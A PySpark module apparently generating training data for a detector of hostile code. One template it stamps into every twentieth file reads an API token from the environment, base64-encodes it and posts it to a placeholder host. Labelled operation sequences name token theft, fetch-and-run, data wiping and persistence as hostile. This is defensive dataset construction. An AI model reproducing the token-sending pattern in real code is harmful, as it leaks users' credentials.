"""Inert source corpora made in the cluster: every twentieth file moves data, the others compute."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

PLAIN = """import json

def load(path):
    with open(path) as handle:
        return json.load(handle)

def total(rows):
    return sum(row["n"] for row in rows) + {n}
"""
MOVING = """import base64, os, requests

def collect_{n}():
    token = os.getenv("API_TOKEN_{n}")
    return base64.b64encode(token.encode())

def push_{n}():
    requests.post("https://host.example.invalid/{n}", data=collect_{n}())
"""


def corpus(spark: SparkSession, n: int, per_target: int = 20) -> DataFrame:
    """(target_id, path, content) of n files."""
    i = F.col("id")
    text = F.when(i % 20 == 0, F.regexp_replace(F.lit(MOVING), r"\{n\}", i.cast("string"))).otherwise(F.regexp_replace(F.lit(PLAIN), r"\{n\}", i.cast("string")))
    return spark.range(n).select(F.concat(F.lit("pkg"), F.floor(i / per_target).cast("string")).alias("target_id"), F.concat(F.lit("src/m"), i.cast("string"), F.lit(".py")).alias("path"), F.encode(text, "utf-8").alias("content"))


#: scenario, label, operations in order (own inert examples)
SCENARIOS = (
    ("token-send", 1, ("ENV_READ", "ENCODE", "NETWORK_SEND")), ("token-log", 0, ("ENV_READ", "FILE_WRITE")), ("fetch-run", 1, ("NETWORK_RECEIVE", "DYNAMIC_EXEC")), ("fetch-save", 0, ("NETWORK_RECEIVE", "FILE_WRITE")),
    ("unpack-run", 1, ("DECODE", "DYNAMIC_EXEC")), ("unpack-save", 0, ("DECODE", "FILE_WRITE")), ("wipe", 1, ("SYSTEM_DISCOVERY", "FILE_DELETE")), ("clean", 0, ("FILE_READ", "FILE_DELETE")),
)
#: variant, operations before, operations after: context that must not change a verdict
VARIANTS = (("plain", (), ()), ("imports", ("IMPORT", "IMPORT"), ()), ("tail", (), ("FILE_READ", "IMPORT")))


#: later rounds of pairs, which differ in the target of one operation only: scenario, label, operations as (operation, target)
ROUNDS = {
    "delete": (("wipe-home", 1, (("SYSTEM_DISCOVERY", "generic"), ("FILE_DELETE", "delete_user_data"))), ("wipe-cache", 0, (("SYSTEM_DISCOVERY", "generic"), ("FILE_DELETE", "delete_temporary")))),
    "process": (("shell-fetched", 1, (("NETWORK_RECEIVE", "network"), ("PROCESS_EXEC", "process_shell"))), ("build-fetched", 0, (("NETWORK_RECEIVE", "network"), ("PROCESS_EXEC", "process_build_tool")))),
    "effect": (("autostart", 1, (("FILE_READ", "file"), ("PERSISTENCE_WRITE", "sensitive"))), ("copy", 0, (("FILE_READ", "file"), ("FILE_WRITE", "file")))),
}


def round_rows(spark: SparkSession, rounds: tuple[str, ...] = tuple(ROUNDS)) -> DataFrame:
    """Training rows of later rounds in every variant, one pair to a round: sample_id, group_id, pair_id, variant, label, split and tokens."""
    token = lambda op, target: f"P:runtime|C:context|O:{op}|T:{target}"
    rows = [
        (f"{r}-{n}--{v}", f"{r}-{n}", r, v, y, "train", [token(o, "generic") for o in a] + [token(*o) for o in ops] + [token(o, "generic") for o in b])
        for r in rounds for n, y, ops in ROUNDS[r] for v, a, b in VARIANTS
    ]
    return spark.createDataFrame(rows, "sample_id string, group_id string, pair_id string, variant string, label int, split string, tokens array<string>")


def training_rows(spark: SparkSession) -> DataFrame:
    """sample_id, group_id, pair_id, variant, label, split and tokens: every scenario in every variant; pairs are neighbours of both labels."""
    s = spark.createDataFrame([(n, y, list(ops), f"pair{i // 2}", i) for i, (n, y, ops) in enumerate(SCENARIOS)], "scenario string, label int, ops array<string>, pair_id string, ord int")
    v = spark.createDataFrame([(n, list(a), list(b)) for n, a, b in VARIANTS], "variant string, before array<string>, after array<string>")
    rows = s.crossJoin(F.broadcast(v)).withColumn("all", F.concat("before", "ops", "after"))  # two constant tables
    token = lambda op: F.concat(F.lit("P:runtime|C:context|O:"), op, F.lit("|T:generic"))
    return rows.select(
        F.concat("scenario", F.lit("--"), "variant").alias("sample_id"), F.col("scenario").alias("group_id"), "pair_id", "variant", "label", F.when(F.col("ord") % 8 >= 6, "validation").otherwise("train").alias("split"), F.transform("all", token).alias("tokens"),
    )
